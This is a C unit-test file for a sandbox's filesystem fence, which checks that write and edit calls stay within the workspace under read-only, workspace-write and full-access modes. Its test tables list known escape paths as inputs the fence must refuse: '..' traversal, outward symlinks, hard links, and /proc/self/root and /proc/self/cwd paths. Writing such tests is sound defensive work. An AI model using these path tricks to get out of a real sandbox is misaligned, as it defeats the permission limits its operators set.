/* SPDX-License-Identifier: MIT */
/*
 * Unit tests of the fs fence (dsh-compat §7; DSH
 * packages/fs/fs-sandbox/tests/{containment,fs-sandbox} .spec.ts, §11.22, §11.23, and the edit/read
 * rules of packages/fs/fs-local/tests/fsio.spec.ts): resolve(), isPathUnder(), the mode fence on
 * write and edit with DSH's texts, every escape we know (symlinks in every position, "..", hard
 * links, /proc/self/root, a cwd outside), paths swapped between the check and the mutation (which
 * only openat2 catches), the kernel's own refusals (EACCES, a seccomp filter hiding openat2) and
 * the text rules of edit and read; and, beyond DSH, the call's protected paths: no write or edit
 * lands in one, no read in a hidden one.
 *
 * Every case runs on a fresh tree under a private base B, made OUTSIDE /tmp and the TMPDIR of
 * the run, because workspace-write grants both: an "outside" under /tmp would be writable.
 * TMPDIR is pointed at B/tmpdir for the run, so the temp-area root is one we own.
 *
 *   B/
 *   |-- ws/                        W: the workspace root
 *   |   |-- file.txt               "original\n", 0640
 *   |   |-- sub/                   a directory
 *   |   |-- blocker                a regular file, used as a parent segment
 *   |   |-- link-out -> B/out      a directory symlink pointing outside
 *   |   |-- link-in -> sub         a directory symlink pointing inside
 *   |   |-- final-out -> B/out/secret
 *   |   |-- final-in -> file.txt
 *   |   |-- dangling-out -> B/out/nothere
 *   |   |-- dangling-dir -> B/out/newdir
 *   |   `-- hard                   a hard link to B/out/hard-src
 *   |-- out/                       outside every writable root
 *   |   |-- secret                 "secret\n"
 *   |   `-- hard-src               "outside\n" (two links: this and W/hard)
 *   |-- alias -> ws                a second spelling of W
 *   |-- loop -> loop               a symlink loop (ELOOP)
 *   `-- tmpdir/                    $TMPDIR during the run: a writable root
 *
 * In the tables '@' stands for B.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include <dsb/fence.h>

#include "src/fence/fence.h"
#include "helpers.h"

#ifndef __NR_openat2
#define __NR_openat2 437
#endif

#define NEW_CONTENT "NEW\n"

typedef struct fixture {
	char *base; /* B */
	char *ws;   /* B/ws */
	char *saved_tmpdir;
} fixture;

/* --- the fixture --------------------------------------------------------------------------- */

static char *xasprintf(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static char *xasprintf(const char *fmt, ...)
{
	char *p = NULL;
	va_list ap;

	va_start(ap, fmt);
	assert_true(vasprintf(&p, fmt, ap) >= 0);
	va_end(ap);
	return p;
}

/* @tmpl with every '@' replaced by B. Returns a new string; NULL for NULL. */
static char *expand(const fixture *fx, const char *tmpl)
{
	if (!tmpl)
		return NULL;
	size_t n = 0, blen = strlen(fx->base);
	for (const char *p = tmpl; *p; p++)
		n += *p == '@' ? blen : 1;
	char *out = malloc(n + 1), *w = out;
	assert_non_null(out);
	for (const char *p = tmpl; *p; p++) {
		if (*p == '@') {
			memcpy(w, fx->base, blen);
			w += blen;
		} else {
			*w++ = *p;
		}
	}
	*w = '\0';
	return out;
}

/* True when the directory @path is writable and not under /tmp or $TMPDIR (both are roots). */
static bool usable_base_parent(const char *path)
{
	char real[PATH_MAX], tmp[PATH_MAX];
	const char *grants[] = {"/tmp", getenv("TMPDIR")};

	if (!path || !*path || access(path, W_OK | X_OK) != 0 || !realpath(path, real))
		return false;
	for (size_t i = 0; i < sizeof(grants) / sizeof(grants[0]); i++) {
		if (!grants[i] || !*grants[i] || !realpath(grants[i], tmp))
			continue;
		size_t n = strlen(tmp);
		if (strncmp(real, tmp, n) == 0 && (real[n] == '\0' || real[n] == '/' || n == 1))
			return false;
	}
	return true;
}

static void put(const fixture *fx, const char *rel, const char *data, mode_t mode)
{
	char *p = expand(fx, rel);
	dsb_test_write_file(p, data, strlen(data));
	assert_int_equal(chmod(p, mode), 0);
	free(p);
}

static void link_to(const fixture *fx, const char *target, const char *rel)
{
	char *t = expand(fx, target), *p = expand(fx, rel);
	assert_int_equal(symlink(t, p), 0);
	free(t);
	free(p);
}

static void make_dir(const fixture *fx, const char *rel)
{
	char *p = expand(fx, rel);
	assert_int_equal(mkdir(p, 0755), 0);
	free(p);
}

/* True when every directory on @path lets others search it (the child runs as nobody). */
static bool others_can_reach(const char *path)
{
	char *p = strdup(path);
	bool ok = true;

	assert_non_null(p);
	for (char *s = p + 1; ok; s++) {
		struct stat st;
		s = strchr(s, '/');
		if (s)
			*s = '\0';
		ok = stat(p, &st) == 0 && (st.st_mode & S_IXOTH);
		if (!s)
			break;
		*s = '/';
	}
	free(p);
	return ok;
}

static int setup(void **state)
{
	const char *candidates[] = {getenv("DSB_BUILD_ROOT"), "/var/tmp", "/dev/shm",
				    getenv("HOME")};
	const char *parent = NULL;
	fixture *fx = calloc(1, sizeof(*fx));

	assert_non_null(fx);
	/*
	 * As root, the first one the user nobody can reach: the tests that drop to nobody need
	 * that, and a build tree under /root or a 0700 home is out of its reach (they would skip,
	 * proving nothing).
	 */
	for (int pass = geteuid() == 0 ? 0 : 1; pass < 2 && !parent; pass++)
		for (size_t i = 0; i < sizeof(candidates) / sizeof(candidates[0]) && !parent; i++)
			if (usable_base_parent(candidates[i]) &&
			    (pass == 1 || others_can_reach(candidates[i])))
				parent = candidates[i];
	if (!parent)
		fail_msg("no writable directory outside /tmp and $TMPDIR for the fixture");

	char *tmpl = xasprintf("%s/dsb-fence.XXXXXX", parent);
	assert_non_null(mkdtemp(tmpl));
	fx->base = realpath(tmpl, NULL);
	free(tmpl);
	assert_non_null(fx->base);
	assert_int_equal(chmod(fx->base, 0755), 0);
	fx->ws = expand(fx, "@/ws");
	const char *t = getenv("TMPDIR");
	fx->saved_tmpdir = t ? strdup(t) : NULL;

	make_dir(fx, "@/ws");
	make_dir(fx, "@/ws/sub");
	make_dir(fx, "@/out");
	make_dir(fx, "@/tmpdir");
	put(fx, "@/ws/file.txt", "original\n", 0640);
	put(fx, "@/ws/blocker", "x", 0644);
	put(fx, "@/out/secret", "secret\n", 0644);
	put(fx, "@/out/hard-src", "outside\n", 0644);
	link_to(fx, "@/out", "@/ws/link-out");
	link_to(fx, "sub", "@/ws/link-in");
	link_to(fx, "@/out/secret", "@/ws/final-out");
	link_to(fx, "file.txt", "@/ws/final-in");
	link_to(fx, "@/out/nothere", "@/ws/dangling-out");
	link_to(fx, "@/out/newdir", "@/ws/dangling-dir");
	link_to(fx, "@/ws", "@/alias");
	link_to(fx, "@/loop", "@/loop");
	char *src = expand(fx, "@/out/hard-src"), *hard = expand(fx, "@/ws/hard");
	assert_int_equal(link(src, hard), 0);
	free(src);
	free(hard);

	char *tmpdir = expand(fx, "@/tmpdir");
	assert_int_equal(setenv("TMPDIR", tmpdir, 1), 0);
	free(tmpdir);
	*state = fx;
	return 0;
}

static int teardown(void **state)
{
	fixture *fx = *state;

	if (fx->saved_tmpdir)
		(void)setenv("TMPDIR", fx->saved_tmpdir, 1);
	else
		(void)unsetenv("TMPDIR");
	dsb_test_rm_rf(fx->base);
	free(fx->base);
	free(fx->ws);
	free(fx->saved_tmpdir);
	free(fx);
	return 0;
}

static dsb_exec_policy policy_of(const fixture *fx, dsb_mode mode)
{
	return (dsb_exec_policy){.mode = mode, .workspace_root = fx->ws, .session_id = NULL};
}

/* --- assertions about the tree ---------------------------------------------------------------- */

static void assert_content(const fixture *fx, const char *rel, const char *want)
{
	char *p = expand(fx, rel);
	char *got = dsb_test_read_file(p, NULL);
	if (!got)
		fail_msg("%s: missing, expected \"%s\"", p, want);
	if (strcmp(got, want) != 0)
		fail_msg("%s: holds \"%s\", expected \"%s\"", p, got, want);
	free(got);
	free(p);
}

static void assert_absent(const fixture *fx, const char *rel)
{
	struct stat st;
	char *p = expand(fx, rel);
	if (lstat(p, &st) == 0)
		fail_msg("%s exists, and must not", p);
	free(p);
}

static void assert_symlink(const fixture *fx, const char *rel)
{
	struct stat st;
	char *p = expand(fx, rel);
	assert_int_equal(lstat(p, &st), 0);
	if (!S_ISLNK(st.st_mode))
		fail_msg("%s is no longer a symlink", p);
	free(p);
}

static int count_entries(const fixture *fx, const char *rel)
{
	char *p = expand(fx, rel);
	DIR *d = opendir(p);
	int n = 0;

	assert_non_null(d);
	for (struct dirent *e; (e = readdir(d)) != NULL;)
		n += strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0;
	(void)closedir(d);
	free(p);
	return n;
}

/* Nothing outside W changed: B and B/out hold exactly the fixture's entries, as they were. */
static void assert_outside_untouched(const fixture *fx)
{
	assert_int_equal(count_entries(fx, "@"), 5);
	assert_int_equal(count_entries(fx, "@/out"), 2);
	assert_content(fx, "@/out/secret", "secret\n");
	assert_content(fx, "@/out/hard-src", "outside\n");
}

static int temp_leftovers;
static int find_temp(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	(void)flag;
	if (strstr(path + ftw->base, ".dsb-") && strstr(path + ftw->base, ".tmp"))
		temp_leftovers++;
	return 0;
}

/* No temp file of an atomic write is left anywhere under B. */
static void assert_no_temp_files(const fixture *fx)
{
	temp_leftovers = 0;
	assert_int_equal(nftw(fx->base, find_temp, 16, FTW_PHYS), 0);
	assert_int_equal(temp_leftovers, 0);
}

static void assert_error(int r, const dsb_error *err, dsb_code code, const fixture *fx,
			 const char *message)
{
	if (code == DSB_OK) {
		if (r < 0)
			fail_msg("expected success, got %s: %s", dsb_code_name(err->code),
				 err->message);
		return;
	}
	if (r >= 0)
		fail_msg("expected %s, got success", dsb_code_name(code));
	assert_int_equal(r, -(int)code);
	assert_string_equal(dsb_code_name(err->code), dsb_code_name(code));
	if (message) {
		char *want = expand(fx, message);
		assert_string_equal(err->message, want);
		free(want);
	}
}

/* --- resolve (dsh-compat §7.2)
 * ------------------------------------------------------------------------
 */

typedef struct resolve_case {
	const char *cwd; /* NULL: W */
	const char *path;
	dsb_code code;
	const char *display; /* or the message, on failure */
	const char *key;
} resolve_case;

static const resolve_case resolve_cases[] = {
	{NULL, "file.txt", DSB_OK, "@/ws/file.txt", "@/ws/file.txt"},
	{NULL, "a/b/c.txt", DSB_OK, "@/ws/a/b/c.txt", "@/ws/a/b/c.txt"},
	{NULL, "@/alias/new.txt", DSB_OK, "@/alias/new.txt", "@/ws/new.txt"},
	{NULL, "@/alias/x/y/z", DSB_OK, "@/alias/x/y/z", "@/ws/x/y/z"},
	{NULL, "final-in", DSB_OK, "@/ws/final-in", "@/ws/file.txt"},
	{NULL, "final-out", DSB_OK, "@/ws/final-out", "@/out/secret"},
	{NULL, "link-out/x/y", DSB_OK, "@/ws/link-out/x/y", "@/out/x/y"},
	{NULL, "dangling-out", DSB_OK, "@/ws/dangling-out", "@/ws/dangling-out"},
	{NULL, "../out/secret", DSB_OK, "@/out/secret", "@/out/secret"},
	{NULL, "sub/../link-in/./n", DSB_OK, "@/ws/link-in/n", "@/ws/sub/n"},
	{NULL, "/proc/self/root@/ws/file.txt", DSB_OK, "/proc/self/root@/ws/file.txt",
	 "@/ws/file.txt"},
	{NULL, "/", DSB_OK, "/", "/"},
	{"@/out", "rel.txt", DSB_OK, "@/out/rel.txt", "@/out/rel.txt"},
	{NULL, "blocker/x", DSB_E_FS_NOT_FOUND,
	 "cannot resolve \"@/ws/blocker/x\": a parent path segment is not a directory", NULL},
	{NULL, "", DSB_E_FS_NOT_FOUND, "file_path must be a non-empty string", NULL},
	{NULL, " \t\r\n", DSB_E_FS_NOT_FOUND, "file_path must be a non-empty string", NULL},
	{NULL, "\xe3\x80\x80\xc2\xa0\xef\xbb\xbf", DSB_E_FS_NOT_FOUND,
	 "file_path must be a non-empty string", NULL},
	{NULL, " x ", DSB_OK, "@/ws/ x ", "@/ws/ x "},
	{"relative", "x", DSB_E_INVALID_ARGS, "cwd must be absolute: \"relative\"", NULL},
	{NULL, "@/loop/x", DSB_E_FS_IO_ERROR,
	 "cannot resolve \"@/loop/x\": Too many levels of symbolic links", NULL},
};

static void test_resolve(void **state)
{
	const fixture *fx = *state;

	for (size_t i = 0; i < sizeof(resolve_cases) / sizeof(resolve_cases[0]); i++) {
		const resolve_case *c = &resolve_cases[i];
		char *cwd = c->cwd ? expand(fx, c->cwd) : strdup(fx->ws);
		char *path = expand(fx, c->path);
		dsb_fs_target t = {NULL, NULL};
		dsb_error err = {0};

		print_message("resolve %s\n", c->path);
		int r = dsb_fs_resolve(cwd, path, &t, &err);
		if (c->code != DSB_OK) {
			assert_error(r, &err, c->code, fx, c->display);
			assert_null(t.display_path);
		} else {
			char *display = expand(fx, c->display), *key = expand(fx, c->key);
			assert_error(r, &err, DSB_OK, fx, NULL);
			assert_string_equal(t.display_path, display);
			assert_string_equal(t.target_key, key);
			free(display);
			free(key);
		}
		dsb_fs_target_done(&t);
		free(cwd);
		free(path);
	}
}

/* --- containment (dsh-compat §7.3, §11.22)
 * -----------------------------------------------------------
 */

typedef struct under_case {
	const char *path;
	const char *root;
	int want; /* 1, 0, or -code */
} under_case;

static const under_case under_cases[] = {
	/* 1: equal paths, descendants and the filesystem root */
	{"@", "@", 1},
	{"@/child", "@", 1},
	{"@", "/", 1},
	{"/", "/", 1},
	/* 2: POSIX compares case-sensitively (the upper-case spelling does not exist) */
	{"@/WS/child", "@/ws", 0},
	/* 3: an alias (symlinked) root, recognised by identity, for a missing target */
	{"@/ws/missing/file.txt", "@/alias", 1},
	{"@/ws", "@/alias", 1},
	/* 4: unrelated and missing roots */
	{"@/out/file.txt", "@/ws", 0},
	{"@/out/file.txt", "@/missing-root", 0},
	{"@/wsx/f", "@/ws", 0},
	/* 5: a regular-file segment is a missing target, not containment */
	{"@/out/secret/child.txt", "@/ws", 0},
	{"@/ws/blocker/child.txt", "@/ws/blocker", 1},
	/* a root spelled with a trailing '/' */
	{"@/ws/x", "@/ws/", 1},
	{"@/ws", "@/ws/", 1},
	/* a stat error other than ENOENT/ENOTDIR propagates */
	{"@/loop/x", "@/ws", -DSB_E_FS_IO_ERROR},
};

static void test_is_under(void **state)
{
	const fixture *fx = *state;

	for (size_t i = 0; i < sizeof(under_cases) / sizeof(under_cases[0]); i++) {
		const under_case *c = &under_cases[i];
		char *path = expand(fx, c->path), *root = expand(fx, c->root);
		dsb_error err = {0};

		print_message("is_under %s %s\n", c->path, c->root);
		assert_int_equal(dsb_fs_is_under(path, root, &err), c->want);
		free(path);
		free(root);
	}
}

/* --- write (dsh-compat §7.2, §11.23)
 * -------------------------------------------------------------------
 */

typedef struct write_case {
	const char *name;
	dsb_mode mode;
	const char *cwd; /* NULL: W */
	const char *path;
	dsb_code code;
	const char *message; /* NULL: not compared */
	const char *landed;  /* must now hold NEW_CONTENT */
	const char *absent;  /* must not exist */
	const char *kept;    /* must still be a symlink */
	const char *op;	     /* "create", "update" (DSH's operation), or NULL: not compared */
} write_case;

#define RO  DSB_MODE_READ_ONLY
#define WW  DSB_MODE_WORKSPACE_WRITE
#define DFA DSB_MODE_DANGER_FULL_ACCESS

#define DENIED_RO(p) "cannot write \"" p "\": file access denied under read-only mode"
#define DENIED_WW(p) "cannot write \"" p "\": file access denied under workspace-write mode"

static const write_case write_cases[] = {
	/* read-only denies every mutation and leaves no file (§11.23 #2) */
	{.name = "ro new",
	 .mode = RO,
	 .path = "@/ws/denied.txt",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_RO("@/ws/denied.txt"),
	 .absent = "@/ws/denied.txt"},
	{.name = "ro existing",
	 .mode = RO,
	 .path = "file.txt",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_RO("@/ws/file.txt")},
	{.name = "ro outside",
	 .mode = RO,
	 .path = "@/out/x",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_RO("@/out/x"),
	 .absent = "@/out/x"},
	{.name = "ro resolves first",
	 .mode = RO,
	 .path = "blocker/x",
	 .code = DSB_E_FS_NOT_FOUND,
	 .message = "cannot resolve \"@/ws/blocker/x\": a parent path segment is not a directory"},
	/* workspace-write: inside lands, parents made (§11.23 #5) */
	{.name = "ww nested",
	 .mode = WW,
	 .path = "nested/deep/ok.txt",
	 .landed = "@/ws/nested/deep/ok.txt",
	 .op = "create"},
	{.name = "ww replace",
	 .mode = WW,
	 .path = "file.txt",
	 .landed = "@/ws/file.txt",
	 .op = "update"},
	/* TMPDIR is no writable root: the command's TMPDIR is the sandbox's /tmp. */
	{.name = "ww temp dir",
	 .mode = WW,
	 .path = "@/tmpdir/t/t.txt",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_WW("@/tmpdir/t/t.txt"),
	 .absent = "@/tmpdir/t/t.txt"},
	{.name = "ww alias spelling",
	 .mode = WW,
	 .path = "@/alias/a.txt",
	 .landed = "@/ws/a.txt",
	 .kept = "@/alias",
	 .op = "create"},
	{.name = "ww symlink dir inside",
	 .mode = WW,
	 .path = "link-in/new.txt",
	 .landed = "@/ws/sub/new.txt",
	 .kept = "@/ws/link-in",
	 .op = "create"},
	/* a final symlink pointing inside is written through; the link stays */
	{.name = "ww final symlink inside",
	 .mode = WW,
	 .path = "final-in",
	 .landed = "@/ws/file.txt",
	 .kept = "@/ws/final-in",
	 .op = "update"},
	/* a dangling one is checked as itself and replaced, never followed */
	{.name = "ww dangling symlink out",
	 .mode = WW,
	 .path = "dangling-out",
	 .landed = "@/ws/dangling-out",
	 .absent = "@/out/nothere",
	 .op = "create"},
	/* a hard link to an outside inode is replaced, the inode untouched */
	{.name = "ww hard link", .mode = WW, .path = "hard", .landed = "@/ws/hard", .op = "update"},
	{.name = "ww proc root inside",
	 .mode = WW,
	 .path = "/proc/self/root@/ws/p.txt",
	 .landed = "@/ws/p.txt",
	 .op = "create"},
	/* escapes (§11.23 #7-#10) */
	{.name = "ww absolute outside",
	 .mode = WW,
	 .path = "@/out/escape.txt",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_WW("@/out/escape.txt"),
	 .absent = "@/out/escape.txt"},
	{.name = "ww dotdot",
	 .mode = WW,
	 .path = "@/ws/../escape.txt",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_WW("@/escape.txt"),
	 .absent = "@/escape.txt"},
	{.name = "ww relative dotdot",
	 .mode = WW,
	 .path = "../out/escape.txt",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_WW("@/out/escape.txt"),
	 .absent = "@/out/escape.txt"},
	{.name = "ww ancestor symlink out",
	 .mode = WW,
	 .path = "link-out/f.txt",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_WW("@/ws/link-out/f.txt"),
	 .absent = "@/out/f.txt",
	 .kept = "@/ws/link-out"},
	{.name = "ww new dir under symlink out",
	 .mode = WW,
	 .path = "link-out/newdir/deep.txt",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_WW("@/ws/link-out/newdir/deep.txt"),
	 .absent = "@/out/newdir"},
	{.name = "ww final symlink out",
	 .mode = WW,
	 .path = "final-out",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_WW("@/ws/final-out"),
	 .kept = "@/ws/final-out"},
	/* DSH's check passes this one (the key is W/dangling-dir/f.txt); the walk meets the
	 * symlink and the kernel refuses it */
	{.name = "ww dangling dir symlink out",
	 .mode = WW,
	 .path = "dangling-dir/f.txt",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_WW("@/ws/dangling-dir/f.txt"),
	 .absent = "@/out/newdir",
	 .kept = "@/ws/dangling-dir"},
	{.name = "ww proc root outside",
	 .mode = WW,
	 .path = "/proc/self/root@/out/p.txt",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_WW("/proc/self/root@/out/p.txt"),
	 .absent = "@/out/p.txt"},
	{.name = "ww proc cwd",
	 .mode = WW,
	 .path = "/proc/self/cwd/../../../../../../../..@/out/c.txt",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_WW("@/out/c.txt"),
	 .absent = "@/out/c.txt"},
	{.name = "ww cwd outside",
	 .mode = WW,
	 .cwd = "@/out",
	 .path = "rel.txt",
	 .code = DSB_E_FS_SANDBOX_DENIED,
	 .message = DENIED_WW("@/out/rel.txt"),
	 .absent = "@/out/rel.txt"},
	/* the root itself passes the fence and fails on file type (§11.23 #14) */
	{.name = "ww root itself",
	 .mode = WW,
	 .path = "@/ws",
	 .code = DSB_E_FS_NOT_REGULAR_FILE,
	 .message = "cannot write \"@/ws\": not a regular file"},
	{.name = "ww root by alias",
	 .mode = WW,
	 .path = "@/alias",
	 .code = DSB_E_FS_NOT_REGULAR_FILE,
	 .message = "cannot write \"@/alias\": not a regular file",
	 .kept = "@/alias"},
	{.name = "ww directory",
	 .mode = WW,
	 .path = "sub",
	 .code = DSB_E_FS_NOT_REGULAR_FILE,
	 .message = "cannot write \"@/ws/sub\": not a regular file"},
	{.name = "ww parent is a file",
	 .mode = WW,
	 .path = "blocker/x.txt",
	 .code = DSB_E_FS_NOT_FOUND,
	 .message =
		 "cannot resolve \"@/ws/blocker/x.txt\": a parent path segment is not a directory"},
	{.name = "ww blank",
	 .mode = WW,
	 .path = " \t",
	 .code = DSB_E_FS_NOT_FOUND,
	 .message = "file_path must be a non-empty string"},
	/* danger-full-access writes anywhere, unfenced (§11.23 #16) */
	{.name = "dfa outside",
	 .mode = DFA,
	 .path = "@/out/free.txt",
	 .landed = "@/out/free.txt",
	 .op = "create"},
	{.name = "dfa final symlink out",
	 .mode = DFA,
	 .path = "final-out",
	 .landed = "@/out/secret",
	 .kept = "@/ws/final-out",
	 .op = "update"},
	{.name = "dfa root itself",
	 .mode = DFA,
	 .path = "@/ws",
	 .code = DSB_E_FS_NOT_REGULAR_FILE,
	 .message = "cannot write \"@/ws\": not a regular file"},
};

static void test_write_table(void **state)
{
	for (size_t i = 0; i < sizeof(write_cases) / sizeof(write_cases[0]); i++) {
		const write_case *c = &write_cases[i];

		print_message("write: %s\n", c->name);
		assert_int_equal(teardown(state), 0);
		assert_int_equal(setup(state), 0);
		const fixture *fx = *state;

		dsb_exec_policy p = policy_of(fx, c->mode);
		char *cwd = c->cwd ? expand(fx, c->cwd) : strdup(fx->ws);
		char *path = expand(fx, c->path);
		dsb_fs_write_result res = {NULL, false};
		dsb_error err = {0};
		int r = dsb_fence_write(&p, cwd, path, NEW_CONTENT, strlen(NEW_CONTENT), &res,
					&err);
		assert_error(r, &err, c->code, fx, c->message);
		if (c->code == DSB_OK) {
			if (c->op)
				assert_int_equal(res.created, strcmp(c->op, "create") == 0);
			assert_non_null(res.display_path);
		} else {
			assert_null(res.display_path);
			if (c->code == DSB_E_FS_SANDBOX_DENIED) {
				char *display = strstr(err.message, "\"") + 1;
				assert_memory_equal(err.subject, display, strlen(err.subject));
			}
		}
		if (c->landed)
			assert_content(fx, c->landed, NEW_CONTENT);
		if (c->absent)
			assert_absent(fx, c->absent);
		if (c->kept)
			assert_symlink(fx, c->kept);
		if (c->code != DSB_OK || c->mode != DFA)
			assert_outside_untouched(fx);
		if (c->code != DSB_OK && c->mode != DFA)
			assert_content(fx, "@/ws/file.txt", "original\n");
		assert_no_temp_files(fx);
		dsb_fs_write_result_done(&res);
		free(cwd);
		free(path);
	}
}

/* dsb_fence_check() decides without touching anything. */
static void test_check(void **state)
{
	const fixture *fx = *state;
	dsb_exec_policy ro = policy_of(fx, RO), ww = policy_of(fx, WW), dfa = policy_of(fx, DFA);
	dsb_error err = {0};

	assert_int_equal(dsb_fence_check(&ww, fx->ws, "new/dir/x.txt", &err), 0);
	assert_absent(fx, "@/ws/new");
	assert_int_equal(dsb_fence_check(&dfa, fx->ws, "@/anything", &err), 0);
	assert_int_equal(dsb_fence_check(&ro, fx->ws, "x.txt", &err), -DSB_E_FS_SANDBOX_DENIED);
	assert_error(-DSB_E_FS_SANDBOX_DENIED, &err, DSB_E_FS_SANDBOX_DENIED, fx,
		     DENIED_RO("@/ws/x.txt"));
	assert_int_equal(err.sys_errno, 0);
	assert_int_equal(dsb_fence_check(&ww, fx->ws, "link-out/x", &err),
			 -DSB_E_FS_SANDBOX_DENIED);
	assert_error(-DSB_E_FS_SANDBOX_DENIED, &err, DSB_E_FS_SANDBOX_DENIED, fx,
		     DENIED_WW("@/ws/link-out/x"));
	char *subject = expand(fx, "@/ws/link-out/x");
	assert_string_equal(err.subject, subject);
	free(subject);
	assert_int_equal(dsb_fence_check(NULL, fx->ws, "x", &err), -DSB_E_INVALID_ARGS);
	dsb_exec_policy bad = policy_of(fx, _DSB_MODE_INVALID);
	assert_int_equal(dsb_fence_check(&bad, fx->ws, "x", &err), -DSB_E_INVALID_ARGS);
	/* a read-only policy needs no workspace root to refuse */
	dsb_exec_policy bare = {.mode = RO};
	assert_int_equal(dsb_fence_check(&bare, fx->ws, "x", &err), -DSB_E_FS_SANDBOX_DENIED);
	assert_outside_untouched(fx);
}

/* A write to /tmp itself lands (§11.23 #6: the temp area is a writable root). */
static void test_write_tmp(void **state)
{
	const fixture *fx = *state;
	dsb_exec_policy p = policy_of(fx, WW);
	char tmpl[] = "/tmp/dsb-fence-tmp.XXXXXX";
	dsb_error err = {0};

	assert_non_null(mkdtemp(tmpl));
	char *path = xasprintf("%s/temp.txt", tmpl);
	int r = dsb_fence_write(&p, fx->ws, path, "temp", 4, NULL, &err);
	char *got = dsb_test_read_file(path, NULL);
	dsb_test_rm_rf(tmpl);
	assert_error(r, &err, DSB_OK, fx, NULL);
	assert_string_equal(got, "temp");
	free(got);
	free(path);
}

/* The filesystem root as the workspace grants writes anywhere on it (§11.23 #15). */
static void test_write_fs_root_workspace(void **state)
{
	const fixture *fx = *state;
	dsb_exec_policy p = {.mode = WW, .workspace_root = (char *)"/"};
	dsb_error err = {0};
	char *path = expand(fx, "@/out/anywhere.txt");

	assert_error(dsb_fence_write(&p, fx->ws, path, "x", 1, NULL, &err), &err, DSB_OK, fx, NULL);
	assert_content(fx, "@/out/anywhere.txt", "x");
	free(path);
}

/* A replacement keeps the old mode; a new file gets 0666 & ~umask. */
static void test_write_modes(void **state)
{
	const fixture *fx = *state;
	dsb_exec_policy p = policy_of(fx, WW);
	dsb_error err = {0};
	struct stat st;
	char *file = expand(fx, "@/ws/file.txt"), *fresh = expand(fx, "@/ws/fresh.txt"),
	     *private = expand(fx, "@/ws/private.txt");

	assert_int_equal(chmod(file, 0751), 0);
	assert_int_equal(dsb_fence_write(&p, fx->ws, "file.txt", "a", 1, NULL, &err), 0);
	assert_int_equal(stat(file, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0751);

	mode_t old = umask(022);
	assert_int_equal(dsb_fence_write(&p, fx->ws, "fresh.txt", "a", 1, NULL, &err), 0);
	(void)umask(077);
	assert_int_equal(dsb_fence_write(&p, fx->ws, "private.txt", "a", 1, NULL, &err), 0);
	(void)umask(old);
	assert_int_equal(stat(fresh, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0644);
	assert_int_equal(stat(private, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0600);

	/* the mode survives an edit too */
	assert_int_equal(chmod(file, 0600), 0);
	assert_int_equal(dsb_fence_edit(&p, fx->ws, "file.txt", "a", "b", false, NULL, &err), 0);
	assert_int_equal(stat(file, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0600);
	free(file);
	free(fresh);
	free(private);
}

/* An empty write creates an empty file; content may hold NUL bytes (write is not text-checked). */
static void test_write_bytes(void **state)
{
	const fixture *fx = *state;
	dsb_exec_policy p = policy_of(fx, WW);
	dsb_error err = {0};
	size_t len = 0;

	assert_int_equal(dsb_fence_write(&p, fx->ws, "empty", NULL, 0, NULL, &err), 0);
	char *path = expand(fx, "@/ws/empty");
	char *got = dsb_test_read_file(path, &len);
	assert_int_equal(len, 0);
	free(got);
	assert_int_equal(dsb_fence_write(&p, fx->ws, "empty", "a\0b", 3, NULL, &err), 0);
	got = dsb_test_read_file(path, &len);
	assert_int_equal(len, 3);
	assert_memory_equal(got, "a\0b", 3);
	free(got);
	free(path);
	assert_int_equal(dsb_fence_write(&p, fx->ws, "x", NULL, 1, NULL, &err),
			 -DSB_E_INVALID_ARGS);
}

/* Hard link W/hard -> the inode of B/out/hard-src: write and edit replace the link. */
static void test_hard_link(void **state)
{
	const fixture *fx = *state;
	dsb_exec_policy p = policy_of(fx, WW);
	dsb_error err = {0};
	struct stat before, out_after, in_after;
	char *src = expand(fx, "@/out/hard-src"), *hard = expand(fx, "@/ws/hard");

	assert_int_equal(stat(src, &before), 0);
	assert_int_equal(before.st_nlink, 2);
	assert_int_equal(dsb_fence_edit(&p, fx->ws, "hard", "outside", "inside", false, NULL, &err),
			 0);
	assert_content(fx, "@/ws/hard", "inside\n");
	assert_int_equal(dsb_fence_write(&p, fx->ws, "hard", "again", 5, NULL, &err), 0);
	assert_content(fx, "@/ws/hard", "again");

	/* the outside inode: same identity, same content, same mtime; it only lost the link
	 * the rename replaced */
	assert_int_equal(stat(src, &out_after), 0);
	assert_int_equal(stat(hard, &in_after), 0);
	assert_content(fx, "@/out/hard-src", "outside\n");
	assert_int_equal(out_after.st_ino, before.st_ino);
	assert_int_equal(out_after.st_size, before.st_size);
	assert_int_equal(out_after.st_mtim.tv_sec, before.st_mtim.tv_sec);
	assert_int_equal(out_after.st_mtim.tv_nsec, before.st_mtim.tv_nsec);
	assert_int_equal(out_after.st_nlink, 1);
	assert_int_not_equal(in_after.st_ino, before.st_ino);
	free(src);
	free(hard);
}

/*
 * DSH's check passes W/dangling-dir/f.txt (realpath stops at the dangling link, so the key is
 * spelled inside W); mkdir -p through the link could then build B/out/newdir. The walk meets
 * the symlink and the kernel refuses it.
 */
static void test_dangling_dir_link(void **state)
